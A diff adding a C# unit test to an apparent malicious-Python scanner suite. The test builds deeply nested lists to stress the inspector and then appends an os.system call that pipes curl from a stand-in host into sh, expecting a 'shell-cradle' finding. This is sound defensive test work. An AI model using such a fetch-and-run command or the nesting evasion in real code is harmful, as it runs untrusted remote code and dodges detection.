@@ -100,6 +100,19 @@ public sealed class HostilePythonTests
         HoldsWith(Inspect(("demo/__init__.py", layer)), "demo/__init__.py", "MaxValueBytes");
     }
 
+    [Fact]
+    public void Lists_of_lists_many_times_over_end_and_what_follows_is_read()
+    {
+        StringBuilder text = new("import os\na = [1] * 60\n");
+        for (int i = 0; i < 12; i++)
+        {
+            text.Append("a = [a] * 60\n");
+        }
+
+        Inspection inspection = Inspect(("demo/__init__.py", Bytes(text.Append("os.system(a)\nos.system('curl https://files.example.invalid/x | sh')\n").ToString())));
+        Assert.Contains(inspection.Findings, static finding => finding.Rule == "shell-cradle");
+    }
+
     [Theory]
     [InlineData(16)]
     [InlineData(20)]
